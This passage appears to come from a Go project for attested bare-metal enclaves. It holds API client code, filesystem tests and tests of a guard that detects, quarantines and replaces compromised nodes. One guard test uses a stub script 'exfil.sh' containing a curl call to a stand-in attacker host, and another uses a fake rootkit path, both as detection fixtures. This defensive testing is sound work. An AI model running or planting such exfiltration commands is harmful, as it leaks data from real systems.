	if err := c.do(ctx, "POST", "/enclaves", createEnclaveRequest{Name: name, Profile: profile}, &info); err != nil {
		return nil, err
	}
	return &info, nil
}

// ListEnclaves returns every enclave resource.
func (c *V1Client) ListEnclaves(ctx context.Context) ([]*EnclaveInfo, error) {
	var out []*EnclaveInfo
	if err := c.do(ctx, "GET", "/enclaves", nil, &out); err != nil {
		return nil, err
	}
	return out, nil
}

// GetEnclave returns one enclave resource.
func (c *V1Client) GetEnclave(ctx context.Context, name string) (*EnclaveInfo, error) {
	var info EnclaveInfo
	if err := c.do(ctx, "GET", "/enclaves/"+url.PathEscape(name), nil, &info); err != nil {
		return nil, err
	}
	return &info, nil
}

// DeleteEnclave releases every node and removes the enclave. It fails
// with core.ErrConflict while an operation on it is still running.
func (c *V1Client) DeleteEnclave(ctx context.Context, name string) error {
	return c.do(ctx, "DELETE", "/enclaves/"+url.PathEscape(name), nil, nil)
}

// Acquire starts an asynchronous batch acquisition and returns the
// Operation resource immediately (phase pending or running). Follow it
// with GetOperation / WaitOperation / StreamEvents, or stop it with
// CancelOperation.
func (c *V1Client) Acquire(ctx context.Context, enclave, image string, n int) (*OperationInfo, error) {
	var info OperationInfo
	err := c.do(ctx, "POST", "/enclaves/"+url.PathEscape(enclave)+"/nodes:acquire",
		acquireRequest{Image: image, Count: n}, &info)
	if err != nil {
		return nil, err
	}
	return &info, nil
}

// ReleaseNode removes a node from an enclave and returns it to the
// free pool; a non-empty saveAs preserves its volume as an image.
func (c *V1Client) ReleaseNode(ctx context.Context, enclave, node, saveAs string) error {
	path := "/enclaves/" + url.PathEscape(enclave) + "/nodes/" + url.PathEscape(node)
	if saveAs != "" {
		path += "?saveAs=" + url.QueryEscape(saveAs)
	}
	return c.do(ctx, "DELETE", path, nil, nil)
}

// ListOperations returns every operation resource, oldest first.
func (c *V1Client) ListOperations(ctx context.Context) ([]*OperationInfo, error) {
	var out []*OperationInfo
	if err := c.do(ctx, "GET", "/operations", nil, &out); err != nil {
		return nil, err
	}
	return out, nil
}

// GetOperation polls an operation.
func (c *V1Client) GetOperation(ctx context.Context, id string) (*OperationInfo, error) {
	var info OperationInfo
	if err := c.do(ctx, "GET", "/operations/"+url.PathEscape(id), nil, &info); err != nil {
		return nil, err
	}
	return &info, nil
}

// WaitOperation blocks (server-side long poll) until the operation is
// terminal and returns its final state.
func (c *V1Client) WaitOperation(ctx context.Context, id string) (*OperationInfo, error) {
	var info OperationInfo
	if err := c.do(ctx, "GET", "/operations/"+url.PathEscape(id)+"?wait=1", nil, &info); err != nil {
		return nil, err
	}
	return &info, nil
}

// CancelOperation asks the batch to stop at the next phase boundary;
// unfinished nodes return to the free pool. The returned snapshot is
// immediate — wait for the terminal state to observe the cleanup.
func (c *V1Client) CancelOperation(ctx context.Context, id string) (*OperationInfo, error) {
	var info OperationInfo
	if err := c.do(ctx, "POST", "/operations/"+url.PathEscape(id)+":cancel", nil, &info); err != nil {
		return nil, err
	}
	return &info, nil
}

// StreamEvents follows an operation's lifecycle journal from event
// index `from`, calling fn for each event in order until the operation
// is terminal (returning nil), fn returns an error (returned as-is),
// or ctx ends.
func (c *V1Client) StreamEvents(ctx context.Context, id string, from int, fn func(EventInfo) error) error {
	path := "/operations/" + url.PathEscape(id) + "/events?from=" + strconv.Itoa(from)
	req, err := http.NewRequestWithContext(ctx, "GET", c.base+path, nil)
	if err != nil {
		return err
	}
	resp, err := c.http.Do(req)
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	if resp.StatusCode >= 400 {
		return decodeV1Error(resp)
	}
	sc := bufio.NewScanner(resp.Body)
	sc.Buffer(make([]byte, 0, 64*1024), 1024*1024)
	for sc.Scan() {
		line := bytes.TrimSpace(sc.Bytes())
		if len(line) == 0 {
			continue
		}
		var ev EventInfo
		if err := json.Unmarshal(line, &ev); err != nil {
			return fmt.Errorf("remote: bad event line: %w", err)
		}
		if err := fn(ev); err != nil {
			return err
		}
	}
	return sc.Err()
}
