package minfs

import (
	"bytes"
	"errors"
	"fmt"
	"math/rand"
	"testing"
	"testing/quick"

	"bolted/internal/blockdev"
	"bolted/internal/luks"
)

func newFS(t testing.TB, size int64) (*FS, *blockdev.RAMDisk) {
	t.Helper()
	disk, err := blockdev.NewRAMDisk(size)
	if err != nil {
		t.Fatal(err)
	}
	fs, err := Format(disk, 64)
	if err != nil {
		t.Fatal(err)
	}
	return fs, disk
}

func TestCRUD(t *testing.T) {
	fs, _ := newFS(t, 4<<20)
	data := []byte("hello bolted filesystem")
	if err := fs.Write("greeting.txt", data); err != nil {
		t.Fatal(err)
	}
	got, err := fs.Read("greeting.txt")
	if err != nil || !bytes.Equal(got, data) {
		t.Fatalf("read = %q, %v", got, err)
	}
	size, err := fs.Stat("greeting.txt")
	if err != nil || size != int64(len(data)) {
		t.Fatalf("stat = %d, %v", size, err)
	}
	// Overwrite shrinks and grows correctly.
	big := bytes.Repeat([]byte("B"), 3*BlockSize+17)
	if err := fs.Write("greeting.txt", big); err != nil {
		t.Fatal(err)
	}
	got, _ = fs.Read("greeting.txt")
	if !bytes.Equal(got, big) {
		t.Fatal("overwrite corrupted content")
	}
	if err := fs.Delete("greeting.txt"); err != nil {
		t.Fatal(err)
	}
	if _, err := fs.Read("greeting.txt"); !errors.Is(err, ErrNotFound) {
		t.Fatalf("read after delete: %v", err)
	}
	if err := fs.Delete("greeting.txt"); !errors.Is(err, ErrNotFound) {
		t.Fatalf("double delete: %v", err)
	}
}

func TestIndirectExtents(t *testing.T) {
	fs, _ := newFS(t, 16<<20)
	// Bigger than the direct extents (8 * 4 KiB), exercising the
	// indirect block.
	data := make([]byte, directPtrs*BlockSize+5*BlockSize+123)
	rand.New(rand.NewSource(1)).Read(data)
	if err := fs.Write("big.bin", data); err != nil {
		t.Fatal(err)
	}
	got, err := fs.Read("big.bin")
	if err != nil || !bytes.Equal(got, data) {
		t.Fatal("indirect-extent file corrupted")
	}
	free := fs.FreeBlocks()
	if err := fs.Delete("big.bin"); err != nil {
		t.Fatal(err)
	}
	// Delete returned every block including the indirect one.
	if fs.FreeBlocks() != free+len(data)/BlockSize+1+1 {
		t.Fatalf("blocks leaked: free %d -> %d", free, fs.FreeBlocks())
	}
}

func TestPersistenceAcrossMount(t *testing.T) {
	fs, disk := newFS(t, 4<<20)
	files := map[string][]byte{
		"a": []byte("alpha"),
		"b": bytes.Repeat([]byte("beta"), 5000),
		"c": {},
	}
	for name, data := range files {
		if err := fs.Write(name, data); err != nil {
			t.Fatal(err)
		}
	}
	fs.Delete("c")

	// Re-mount from the raw device: everything must be rediscovered
	// from on-disk state only.
	fs2, err := Mount(disk)
	if err != nil {
		t.Fatal(err)
	}
	names := fs2.List()
	if len(names) != 2 || names[0] != "a" || names[1] != "b" {
		t.Fatalf("remounted list = %v", names)
	}
	for _, name := range names {
		got, err := fs2.Read(name)
		if err != nil || !bytes.Equal(got, files[name]) {
			t.Fatalf("remounted %q corrupted", name)
		}
	}
	// Writes through the new mount persist too.
	if err := fs2.Write("d", []byte("delta")); err != nil {
		t.Fatal(err)
	}
	fs3, _ := Mount(disk)
	if got, _ := fs3.Read("d"); string(got) != "delta" {
		t.Fatal("second remount lost data")
	}
}

func TestMountRejectsBlankDevice(t *testing.T) {
	disk, _ := blockdev.NewRAMDisk(1 << 20)
	if _, err := Mount(disk); !errors.Is(err, ErrNotFS) {
		t.Fatalf("mount of blank device: %v", err)
	}
}

func TestValidation(t *testing.T) {
	fs, _ := newFS(t, 4<<20)
	if err := fs.Write("", []byte("x")); err == nil {
		t.Error("empty name accepted")
	}
	long := bytes.Repeat([]byte("n"), nameLen)
	if err := fs.Write(string(long), []byte("x")); !errors.Is(err, ErrNameTooBig) {
		t.Errorf("long name: %v", err)
	}
	if err := fs.Write("huge", make([]byte, MaxFileSize+1)); !errors.Is(err, ErrFileTooBig) {
		t.Errorf("oversize file: %v", err)
	}
	tiny, _ := blockdev.NewRAMDisk(2 * blockdev.SectorSize)
	if _, err := Format(tiny, 8); err == nil {
		t.Error("format of tiny device succeeded")
	}
	if _, err := Format(tiny, 0); err == nil {
		t.Error("zero inodes accepted")
	}
}

func TestDiskFullRecovery(t *testing.T) {
	fs, _ := newFS(t, 1<<20) // small: ~200 data blocks
	free := fs.FreeBlocks()
	// Fill the disk.
	var written int
	for i := 0; ; i++ {
		err := fs.Write(fmt.Sprintf("f%03d", i), make([]byte, 4*BlockSize))
		if err != nil {
			if !errors.Is(err, ErrNoSpace) && !errors.Is(err, ErrNoInodes) {
				t.Fatalf("unexpected error: %v", err)
			}
			break
		}
		written = i + 1
	}
	if written == 0 {
		t.Fatal("nothing written before full")
	}
	// A failed write must not leak blocks: delete one file and the
	// same-size write succeeds.
	if err := fs.Delete("f000"); err != nil {
		t.Fatal(err)
	}
	if err := fs.Write("replacement", make([]byte, 4*BlockSize)); err != nil {
		t.Fatalf("write after free failed: %v", err)
	}
	// Deleting everything restores all blocks.
	for _, name := range fs.List() {
		if err := fs.Delete(name); err != nil {
			t.Fatal(err)
		}
	}
	if fs.FreeBlocks() != free {
		t.Fatalf("blocks leaked: %d -> %d", free, fs.FreeBlocks())
	}
}

func TestInodesExhaustion(t *testing.T) {
	disk, _ := blockdev.NewRAMDisk(8 << 20)
	fs, err := Format(disk, 4)
	if err != nil {
		t.Fatal(err)
	}
	for i := 0; i < 4; i++ {
		if err := fs.Write(fmt.Sprintf("f%d", i), []byte("x")); err != nil {
			t.Fatal(err)
		}
	}
	if err := fs.Write("f5", []byte("x")); !errors.Is(err, ErrNoInodes) {
		t.Fatalf("5th file: %v", err)
	}
}

func TestOverLUKS(t *testing.T) {
	// The Filebench stack: filesystem over an encrypted volume. File
	// content must never appear on the raw device.
	disk, _ := blockdev.NewRAMDisk(8 << 20)
	vol, err := luks.FormatWithIterations(disk, []byte("pw"), 16)
	if err != nil {
		t.Fatal(err)
	}
	fs, err := Format(vol, 32)
	if err != nil {
		t.Fatal(err)
	}
	secret := bytes.Repeat([]byte("CLASSIFIED-REPORT."), 300)
	if err := fs.Write("report.doc", secret); err != nil {
		t.Fatal(err)
	}
	got, err := fs.Read("report.doc")
	if err != nil || !bytes.Equal(got, secret) {
		t.Fatal("file over LUKS corrupted")
	}
	raw := make([]byte, 8<<20)
	disk.ReadSectors(raw, 0)
	if bytes.Contains(raw, []byte("CLASSIFIED-REPORT")) {
		t.Fatal("plaintext on raw device under LUKS")
	}
	// And it remounts through the encrypted volume.
	vol2, err := luks.Open(disk, []byte("pw"))
	if err != nil {
		t.Fatal(err)
	}
	fs2, err := Mount(vol2)
	if err != nil {
		t.Fatal(err)
	}
	if got, _ := fs2.Read("report.doc"); !bytes.Equal(got, secret) {
		t.Fatal("remount over LUKS lost data")
	}
}

// Property: minfs behaves like a map[string][]byte under random
// write/delete/read sequences.
func TestQuickMapEquivalence(t *testing.T) {
	fs, _ := newFS(t, 8<<20)
	ref := make(map[string][]byte)
	names := []string{"a", "b", "c", "d"}
	f := func(ops []struct {
		Name byte
		Del  bool
		Data []byte
	}) bool {
		for _, op := range ops {
			name := names[int(op.Name)%len(names)]
			if op.Del {
				err := fs.Delete(name)
				_, existed := ref[name]
				if existed != (err == nil) {
					return false
				}
				delete(ref, name)
				continue
			}
			if len(op.Data) > MaxFileSize {
				continue
			}
			if err := fs.Write(name, op.Data); err != nil {
				return false
			}
			ref[name] = append([]byte(nil), op.Data...)
		}
		for name, want := range ref {
			got, err := fs.Read(name)
			if err != nil || !bytes.Equal(got, want) {
				return false
			}
		}
		return len(fs.List()) == len(ref)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 40}); err != nil {
		t.Error(err)
	}
}
