package guard

import (
	"context"
	"errors"
	"strings"
	"sync"
	"testing"
	"time"

	"bolted/internal/bmi"
	"bolted/internal/core"
	"bolted/internal/fault"
	"bolted/internal/ima"
	"bolted/internal/tpm"
)

const testImage = "hardened"

// newRig builds an in-process cloud with a bootable image and an empty
// control plane.
func newRig(t *testing.T, nodes int) (*core.Cloud, *core.Manager) {
	t.Helper()
	cfg := core.DefaultConfig()
	cfg.Nodes = nodes
	cloud, err := core.NewCloud(cfg)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := cloud.BMI.CreateOSImage(testImage, bmi.OSImageSpec{
		KernelID: "hardened-4.17.9",
		Kernel:   []byte("vmlinuz"),
		Initrd:   []byte("initrd"),
		Cmdline:  "root=iscsi ima_policy=tcb",
	}); err != nil {
		t.Fatal(err)
	}
	return cloud, core.NewManager(cloud)
}

// newCharlie creates a continuous-attestation enclave and acquires n
// members.
func newCharlie(t *testing.T, mgr *core.Manager, name string, n int) (*core.Enclave, *core.BatchResult) {
	t.Helper()
	e, err := mgr.CreateEnclave(name, core.ProfileCharlie)
	if err != nil {
		t.Fatal(err)
	}
	e.IMAWhitelist().AllowContent("/usr/bin/app", []byte("app-v1"))
	op, err := mgr.StartAcquire(name, testImage, n)
	if err != nil {
		t.Fatal(err)
	}
	res, err := op.Wait(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Nodes) != n {
		t.Fatalf("allocated %d of %d nodes: %v", len(res.Nodes), n, res.Failed)
	}
	return e, res
}

// waitIncidents blocks until mgr tracks at least n terminal incidents
// for the enclave, returning them (oldest first).
func waitIncidents(t *testing.T, mgr *core.Manager, enclave string, n int) []*core.Incident {
	t.Helper()
	deadline := time.Now().Add(15 * time.Second)
	for {
		incs := mgr.ListIncidents(enclave)
		terminal := 0
		for _, inc := range incs {
			if inc.State().Terminal() {
				terminal++
			}
		}
		if terminal >= n {
			return incs
		}
		if time.Now().After(deadline) {
			t.Fatalf("timed out waiting for %d terminal incidents, have %d of %d total", n, terminal, len(incs))
		}
		time.Sleep(5 * time.Millisecond)
	}
}

func hasStep(st core.IncidentStatus, name string) bool {
	for _, s := range st.Steps {
		if s.Name == name {
			return true
		}
	}
	return false
}

// TestGuardDetectQuarantineRekeyHeal is the full §7.4 kill chain as an
// automated subsystem: the guard's own IMA round detects an
// unauthorized binary, quarantines the node, rotates the enclave PSK,
// and acquires an attested replacement.
func TestGuardDetectQuarantineRekeyHeal(t *testing.T) {
	cloud, mgr := newRig(t, 4)
	e, res := newCharlie(t, mgr, "c", 3)
	g, err := Enable(mgr, "c", Policy{
		Interval:       10 * time.Millisecond,
		CoalesceWindow: 5 * time.Millisecond,
		SelfHeal:       true,
		Image:          testImage,
	})
	if err != nil {
		t.Fatal(err)
	}
	defer mgr.DetachGuard("c")

	victim := res.Nodes[0]
	s1, s2 := res.Nodes[1].Name, res.Nodes[2].Name
	victim.IMA.Measure("/tmp/.hidden/exfil.sh", []byte("#!/bin/sh\ncurl attacker"), ima.HookExec, 0)

	incs := waitIncidents(t, mgr, "c", 1)
	st := incs[0].Status()
	if st.State != core.IncidentResolved {
		t.Fatalf("incident state = %s, want %s (%+v)", st.State, core.IncidentResolved, st.Steps)
	}
	if st.Node != victim.Name {
		t.Fatalf("incident names node %s, want %s", st.Node, victim.Name)
	}
	for _, step := range []string{"quarantine", "rekey", "replace"} {
		if !hasStep(st, step) {
			t.Fatalf("incident missing step %q: %+v", step, st.Steps)
		}
	}

	if got := e.NodeState(victim.Name); got != core.StateQuarantined {
		t.Fatalf("victim state = %s, want %s", got, core.StateQuarantined)
	}
	if _, banned := cloud.Rejected()[victim.Name]; !banned {
		t.Fatal("victim not parked in the provider rejected pool")
	}
	j := e.Journal()
	if n := j.Count(core.EvRevoked); n < 1 {
		t.Fatalf("journal has %d revoked events, want >= 1", n)
	}
	if n := j.Count(core.EvQuarantined); n != 1 {
		t.Fatalf("journal has %d quarantined events, want 1", n)
	}
	if n := j.Count(core.EvRekeyed); n != 1 {
		t.Fatalf("journal has %d rekeyed events, want 1", n)
	}
	if n := j.Count(core.EvHealed); n != 1 {
		t.Fatalf("journal has %d healed events, want 1", n)
	}
	if members := len(e.Nodes()); members != 3 {
		t.Fatalf("enclave has %d members after self-heal, want 3", members)
	}
	// Survivors talk over the rotated PSK; the quarantined node's SAs
	// are gone.
	if _, err := e.Send(s1, s2, []byte("still here")); err != nil {
		t.Fatalf("survivor traffic after rekey: %v", err)
	}
	if _, err := e.Send(victim.Name, s1, []byte("exfil")); err == nil {
		t.Fatal("quarantined node can still reach the enclave")
	}
	if got := g.Status(); got.Revocations != 1 {
		t.Fatalf("guard handled %d revocations, want 1", got.Revocations)
	}
}

// gateDriver blocks ExpectedBootPCRs while armed, freezing any
// provisioning pipeline in the Attesting state.
type gateDriver struct {
	core.NodeDriver
	mu    sync.Mutex
	armed bool
	gate  chan struct{}
}

func (d *gateDriver) arm() {
	d.mu.Lock()
	defer d.mu.Unlock()
	d.armed = true
	d.gate = make(chan struct{})
}

func (d *gateDriver) open() {
	d.mu.Lock()
	defer d.mu.Unlock()
	if d.armed {
		d.armed = false
		close(d.gate)
	}
}

func (d *gateDriver) ExpectedBootPCRs(ctx context.Context, node string) (map[int][]tpm.Digest, error) {
	d.mu.Lock()
	armed, gate := d.armed, d.gate
	d.mu.Unlock()
	if armed {
		select {
		case <-gate:
		case <-ctx.Done():
			return nil, ctx.Err()
		}
	}
	return d.NodeDriver.ExpectedBootPCRs(ctx, node)
}

// TestGuardSkipsNodeStillAttesting injects a revocation against a node
// frozen mid-batch in the Attesting state: the guard must record the
// incident but leave quarantine to the provisioning pipeline — no
// EvQuarantined, no PSK rotation.
func TestGuardSkipsNodeStillAttesting(t *testing.T) {
	cloud, mgr := newRig(t, 3)
	e, _ := newCharlie(t, mgr, "c", 1)
	if _, err := Enable(mgr, "c", Policy{Interval: 10 * time.Millisecond, CoalesceWindow: 5 * time.Millisecond}); err != nil {
		t.Fatal(err)
	}
	defer mgr.DetachGuard("c")

	gd := &gateDriver{NodeDriver: cloud.Driver}
	cloud.Driver = gd
	gd.arm()
	defer gd.open()

	op, err := mgr.StartAcquire("c", testImage, 1)
	if err != nil {
		t.Fatal(err)
	}

	// Wait for the new node to freeze in Attesting.
	var frozen string
	deadline := time.Now().Add(10 * time.Second)
	for frozen == "" {
		for node, st := range e.NodeStates() {
			if st == core.StateAttesting {
				frozen = node
			}
		}
		if time.Now().After(deadline) {
			t.Fatalf("no node reached %s: %v", core.StateAttesting, e.NodeStates())
		}
		time.Sleep(2 * time.Millisecond)
	}

	e.Verifier().Revoke(frozen, "IMA violation injected mid-provisioning")
	incs := waitIncidents(t, mgr, "c", 1)
	st := incs[0].Status()
	if st.Node != frozen {
		t.Fatalf("incident names %s, want %s", st.Node, frozen)
	}
	if !hasStep(st, "skip-quarantine") {
		t.Fatalf("incident should record skip-quarantine: %+v", st.Steps)
	}
	if got := e.NodeState(frozen); got != core.StateAttesting {
		t.Fatalf("frozen node state = %s, want %s (guard must not touch it)", got, core.StateAttesting)
	}
	j := e.Journal()
	if n := j.Count(core.EvQuarantined); n != 0 {
		t.Fatalf("journal has %d quarantined events, want 0", n)
	}
	if n := j.Count(core.EvRekeyed); n != 0 {
		t.Fatalf("journal has %d rekeyed events, want 0", n)
	}

	gd.open()
	if _, err := op.Wait(context.Background()); err != nil {
		t.Fatalf("gated batch never finished: %v", err)
	}
}

// TestConcurrentRevocationsRekeyOnce fires two revocations in one
// enclave at the same instant: both nodes are quarantined, but the PSK
// rotates exactly once.
func TestConcurrentRevocationsRekeyOnce(t *testing.T) {
	_, mgr := newRig(t, 5)
	e, res := newCharlie(t, mgr, "c", 4)
	if _, err := Enable(mgr, "c", Policy{
		Interval:       time.Hour, // no background rounds; revocations injected directly
		CoalesceWindow: 200 * time.Millisecond,
	}); err != nil {
		t.Fatal(err)
	}
	defer mgr.DetachGuard("c")

	bad1, bad2 := res.Nodes[0].Name, res.Nodes[1].Name
	s1, s2 := res.Nodes[2].Name, res.Nodes[3].Name
	var wg sync.WaitGroup
	for _, node := range []string{bad1, bad2} {
		wg.Add(1)
		go func(node string) {
			defer wg.Done()
			e.Verifier().Revoke(node, "unauthorized binary executed")
		}(node)
	}
	wg.Wait()

	incs := waitIncidents(t, mgr, "c", 2)
	for _, inc := range incs {
		if st := inc.Status(); st.State != core.IncidentResolved {
			t.Fatalf("incident %s state = %s, want %s", st.ID, st.State, core.IncidentResolved)
		}
	}
	j := e.Journal()
	if n := j.Count(core.EvQuarantined); n != 2 {
		t.Fatalf("journal has %d quarantined events, want 2", n)
	}
	if n := j.Count(core.EvRekeyed); n != 1 {
		t.Fatalf("journal has %d rekeyed events, want exactly 1 for the concurrent burst", n)
	}
	for _, node := range []string{bad1, bad2} {
		if got := e.NodeState(node); got != core.StateQuarantined {
			t.Fatalf("node %s state = %s, want %s", node, got, core.StateQuarantined)
		}
	}
	if _, err := e.Send(s1, s2, []byte("regrouped")); err != nil {
		t.Fatalf("survivor traffic after burst rekey: %v", err)
	}
}

// TestSelfHealFailureDegrades exhausts the free pool so the replacement
// acquisition cannot succeed: the node is still quarantined and the
// enclave rekeyed, but the incident parks in the degraded state and the
// journal says so.
func TestSelfHealFailureDegrades(t *testing.T) {
	_, mgr := newRig(t, 2)
	e, res := newCharlie(t, mgr, "c", 2) // pool now empty
	if _, err := Enable(mgr, "c", Policy{
		Interval:       10 * time.Millisecond,
		CoalesceWindow: 5 * time.Millisecond,
		SelfHeal:       true,
		Image:          testImage,
	}); err != nil {
		t.Fatal(err)
	}
	defer mgr.DetachGuard("c")

	victim := res.Nodes[0]
	victim.IMA.Measure("/tmp/rootkit", []byte("rootkit"), ima.HookExec, 0)

	incs := waitIncidents(t, mgr, "c", 1)
	st := incs[0].Status()
	if st.State != core.IncidentDegraded {
		t.Fatalf("incident state = %s, want %s (%+v)", st.State, core.IncidentDegraded, st.Steps)
	}
	if !hasStep(st, "quarantine") || !hasStep(st, "rekey") {
		t.Fatalf("degraded incident must still quarantine and rekey: %+v", st.Steps)
	}
	j := e.Journal()
	if n := j.Count(core.EvDegraded); n != 1 {
		t.Fatalf("journal has %d degraded events, want 1", n)
	}
	if got := e.NodeState(victim.Name); got != core.StateQuarantined {
		t.Fatalf("victim state = %s, want %s", got, core.StateQuarantined)
	}
	if members := len(e.Nodes()); members != 1 {
		t.Fatalf("enclave has %d members, want 1 (degraded, not healed)", members)
	}
	// Degraded is reported on the enclave resource via open-incident
	// IDs only while non-terminal; the terminal record stays listed.
	if got := len(mgr.ListIncidents("c")); got != 1 {
		t.Fatalf("manager lists %d incidents, want 1", got)
	}
}

// TestUnguardedRevocationRecordedUnhandled: with no guard attached the
// manager must still surface the revocation — as an unhandled incident
// and on the replayable revocation feed.
func TestUnguardedRevocationRecordedUnhandled(t *testing.T) {
	_, mgr := newRig(t, 2)
	e, res := newCharlie(t, mgr, "c", 1)
	e.Verifier().Revoke(res.Nodes[0].Name, "tenant-side detection")

	incs := waitIncidents(t, mgr, "c", 1)
	if st := incs[0].Status(); st.State != core.IncidentUnhandled {
		t.Fatalf("incident state = %s, want %s", st.State, core.IncidentUnhandled)
	}
	revs, _, _, err := mgr.RevocationsSince("c", 0)
	if err != nil {
		t.Fatal(err)
	}
	if len(revs) != 1 || revs[0].UUID != res.Nodes[0].Name {
		t.Fatalf("revocation feed = %+v, want one event for %s", revs, res.Nodes[0].Name)
	}
	// The node keeps its Allocated state: nobody tore it down.
	if got := e.NodeState(res.Nodes[0].Name); got != core.StateAllocated {
		t.Fatalf("node state = %s, want %s", got, core.StateAllocated)
	}
}

// TestGuardRequiresContinuousAttestation: profiles without an IMA
// whitelist have nothing for the guard to check.
func TestGuardRequiresContinuousAttestation(t *testing.T) {
	_, mgr := newRig(t, 2)
	if _, err := mgr.CreateEnclave("bob", core.ProfileBob); err != nil {
		t.Fatal(err)
	}
	if _, err := Enable(mgr, "bob", Policy{}); !errors.Is(err, core.ErrConflict) {
		t.Fatalf("Enable on bob profile = %v, want ErrConflict", err)
	}
	if _, err := Enable(mgr, "nope", Policy{}); !errors.Is(err, core.ErrNotFound) {
		t.Fatalf("Enable on unknown enclave = %v, want ErrNotFound", err)
	}
}

// TestGuardPolicyValidation: self-heal without an image is rejected at
// enable and at policy update.
func TestGuardPolicyValidation(t *testing.T) {
	_, mgr := newRig(t, 2)
	if _, err := mgr.CreateEnclave("c", core.ProfileCharlie); err != nil {
		t.Fatal(err)
	}
	if _, err := Enable(mgr, "c", Policy{SelfHeal: true}); !errors.Is(err, core.ErrInvalid) {
		t.Fatalf("Enable with self-heal and no image = %v, want ErrInvalid", err)
	}
	g, err := Enable(mgr, "c", Policy{})
	if err != nil {
		t.Fatal(err)
	}
	defer mgr.DetachGuard("c")
	if err := g.SetPolicy(Policy{SelfHeal: true}); !errors.Is(err, core.ErrInvalid) {
		t.Fatalf("SetPolicy with self-heal and no image = %v, want ErrInvalid", err)
	}
	if _, err := Enable(mgr, "c", Policy{}); !errors.Is(err, core.ErrExists) {
		t.Fatalf("second Enable = %v, want ErrExists", err)
	}
}

// TestGuardUnreachableMemberRevoked: a member whose agent stops
// answering is revoked after FailureTolerance consecutive failed
// rounds and then quarantined like any other compromise.
func TestGuardUnreachableMemberRevoked(t *testing.T) {
	cloud, mgr := newRig(t, 3)
	e, res := newCharlie(t, mgr, "c", 2)
	if _, err := Enable(mgr, "c", Policy{
		Interval:         10 * time.Millisecond,
		FailureTolerance: 3,
		CoalesceWindow:   5 * time.Millisecond,
	}); err != nil {
		t.Fatal(err)
	}
	defer mgr.DetachGuard("c")

	victim := res.Nodes[0].Name
	// Sever the node from the attestation network: every subsequent
	// quote fails its path check, exactly what a compromise that kills
	// the agent (or unplugs the NIC) looks like from the verifier.
	if err := cloud.HIL.DetachNode(context.Background(), "c", victim, core.NetAttestation); err != nil {
		t.Fatal(err)
	}
	incs := waitIncidents(t, mgr, "c", 1)
	st := incs[0].Status()
	if st.Node != victim {
		t.Fatalf("incident names %s, want %s", st.Node, victim)
	}
	if got := e.NodeState(victim); got != core.StateQuarantined {
		t.Fatalf("unreachable member state = %s, want %s", got, core.StateQuarantined)
	}
	if want := "3 consecutive failed attestation rounds"; !strings.Contains(st.Reason, want) {
		t.Fatalf("incident reason %q does not mention %q", st.Reason, want)
	}
}

// TestGuardQuarantinesWarmStandby: a revoked node that is parked in
// the enclave's warm pool is pulled out and quarantined — never handed
// to a tenant, never back into the pool — without the member-grade
// response (no rekey, no self-heal; the pool's refiller replaces it).
func TestGuardQuarantinesWarmStandby(t *testing.T) {
	_, mgr := newRig(t, 4)
	e, _ := newCharlie(t, mgr, "c", 1)
	pol := core.DefaultPoolPolicy()
	pol.Target = 1
	pol.RetryBackoff = 5 * time.Millisecond
	if _, _, err := mgr.ConfigurePool("c", pol); err != nil {
		t.Fatal(err)
	}
	waitFor := func(what string, ok func() bool) {
		t.Helper()
		deadline := time.Now().Add(15 * time.Second)
		for !ok() {
			if time.Now().After(deadline) {
				t.Fatal("timed out waiting for " + what)
			}
			time.Sleep(2 * time.Millisecond)
		}
	}
	waitFor("warm standby", func() bool {
		st, ok := e.PoolStats()
		return ok && st.Warm == 1
	})
	if _, err := Enable(mgr, "c", Policy{
		Interval:       10 * time.Millisecond,
		CoalesceWindow: 5 * time.Millisecond,
		SelfHeal:       true,
		Image:          testImage,
	}); err != nil {
		t.Fatal(err)
	}

	st, _ := e.PoolStats()
	victim := st.WarmNodes[0]
	e.Verifier().Revoke(victim, "standby firmware implant")

	incs := waitIncidents(t, mgr, "c", 1)
	inc := incs[len(incs)-1].Status()
	if inc.Node != victim || inc.State != core.IncidentResolved {
		t.Fatalf("incident = %+v", inc)
	}
	if !hasStep(inc, "quarantine") {
		t.Fatalf("incident has no quarantine step: %+v", inc.Steps)
	}
	if got := e.NodeState(victim); got != core.StateQuarantined {
		t.Fatalf("standby state = %s, want %s", got, core.StateQuarantined)
	}
	j := e.Journal()
	if n := j.Count(core.EvRekeyed); n != 0 {
		t.Fatalf("standby quarantine rotated the PSK %d times; standbys hold no key material", n)
	}
	// The refiller replaces the standby from the remaining free nodes;
	// the quarantined node never re-enters.
	waitFor("replacement standby", func() bool {
		st, _ := e.PoolStats()
		return st.Warm == 1 && st.WarmNodes[0] != victim
	})
}

// TestRegistrarOutagePausesGuard is the degraded-mode arc from the
// guard's side: a registrar outage trips its circuit breaker, and the
// guard must pause its IMA rounds — zero revocations, a healthy enclave
// must never be torn apart because a provider service is down — then
// resume once the breaker lets probes through again.
func TestRegistrarOutagePausesGuard(t *testing.T) {
	cloud, mgr := newRig(t, 3)
	inj := fault.New(11)
	defer inj.Close()
	cloud.Registrar = fault.WrapRegistrar(cloud.Registrar, inj)
	if err := cloud.EnableResilience(core.ResiliencePolicy{
		MaxAttempts:      1, // one breaker count per call
		RetryBackoff:     time.Millisecond,
		BreakerThreshold: 2,
		BreakerCooldown:  100 * time.Millisecond,
	}); err != nil {
		t.Fatal(err)
	}
	e, _ := newCharlie(t, mgr, "c", 2)
	g, err := Enable(mgr, "c", Policy{
		Interval:         5 * time.Millisecond,
		FailureTolerance: 1, // any counted quote failure would revoke at once
	})
	if err != nil {
		t.Fatal(err)
	}
	defer g.Stop()

	waitFor := func(what string, cond func() bool) {
		t.Helper()
		deadline := time.Now().Add(15 * time.Second)
		for !cond() {
			if time.Now().After(deadline) {
				t.Fatalf("timed out waiting for %s", what)
			}
			time.Sleep(2 * time.Millisecond)
		}
	}
	waitFor("a healthy round", func() bool { return g.Status().Rounds >= 1 })

	// Registrar outage: every call fails at the transport. Two direct
	// calls through the resilient stack trip the breaker.
	inj.Set("registrar", fault.Profile{ErrorRate: 1})
	for i := 0; i < 2; i++ {
		if _, err := cloud.Registrar.AIK("probe-uuid"); err == nil {
			t.Fatalf("outage call %d succeeded", i)
		}
	}
	if !mgr.Health().BackendOpen(core.BackendRegistrar) {
		t.Fatal("registrar breaker not open after outage")
	}
	waitFor("the guard to pause", func() bool { return g.Status().Paused })
	if !mgr.Health().Degraded {
		t.Fatal("cloud not degraded during registrar outage")
	}

